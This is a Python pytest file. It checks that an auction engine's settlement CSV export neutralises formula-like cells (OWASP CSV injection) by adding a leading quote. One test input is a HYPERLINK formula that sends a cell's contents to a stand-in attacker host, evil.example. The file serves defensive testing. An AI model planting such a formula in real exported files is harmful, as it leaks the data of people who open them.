"""`export-settlements` writes cells a spreadsheet shows as text, never runs (OWASP CSV injection)."""

import csv
import io

import pytest

from auction_engine.store import export_settlements_csv

HASH = "ab" * 32


def sale(lot: str, winner: str, paddle: str = "101") -> dict:
    return {
        "lot": lot, "result": "sold", "winner": winner, "winner_paddle": paddle, "price": 10_000_000,
        "currency": "CNY", "closed_at": 1_000_000, "final_seq": 9, "head_hash": HASH,
    }


async def exported(store) -> list[dict]:
    out = io.StringIO()
    await export_settlements_csv(store, out)
    return list(csv.DictReader(io.StringIO(out.getvalue())))


@pytest.mark.parametrize(
    "winner",
    ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1", "\r=1"],
)
async def test_a_cell_starting_like_a_formula_is_exported_with_a_leading_quote(store, winner):
    await store.record_settlement(**sale("L1", winner))
    row = (await exported(store))[0]
    assert row["winner"] == "'" + winner


async def test_ordinary_cells_and_numbers_are_exported_unchanged(store):
    await store.record_settlement(**sale("L1", "b1", paddle="a=b"))
    row = (await exported(store))[0]
    assert (row["lot"], row["winner"], row["winner_paddle"], row["hammer_price"]) == ("L1", "b1", "a=b", "10000000")
